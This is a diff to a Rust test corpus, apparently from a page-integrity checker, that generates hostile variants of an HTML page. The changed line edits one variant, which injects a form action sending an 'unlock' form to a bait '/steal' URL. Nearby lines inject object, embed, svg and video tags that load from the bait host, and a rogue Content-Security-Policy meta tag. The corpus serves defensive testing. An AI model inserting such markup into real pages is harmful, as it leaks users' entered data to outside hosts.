@@ -171,7 +171,7 @@ pub fn corpus(genuine: &str, decoy: &str, bait: &str) -> Vec<Hostile> {
         ("object-data", Network, edit(genuine, "</main>", &format!("<object data=\"{bait}/object\"></object></main>")).into()),
         ("embed-src", Network, edit(genuine, "</main>", &format!("<embed src=\"{bait}/embed\"></main>")).into()),
         ("svg-image", Network, edit(genuine, "</main>", &format!("<svg><image href=\"{bait}/svg.png\"/></svg></main>")).into()),
-        ("form-action", Network, edit(genuine, "<form id=\"unlock\" autocomplete=\"off\">", &format!("<form id=\"unlock\" autocomplete=\"off\" action=\"{bait}/steal\">")).into()),
+        ("form-action", Network, edit(genuine, "<form id=\"unlock\">", &format!("<form id=\"unlock\" action=\"{bait}/steal\">")).into()),
         ("video-poster", Network, edit(genuine, "</main>", &format!("<video poster=\"{bait}/poster.png\"></video></main>")).into()),
         // 7. Policies.
         ("second-policy", Policy, edit(genuine, "<title>", "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src 'none'\"><title>").into()),
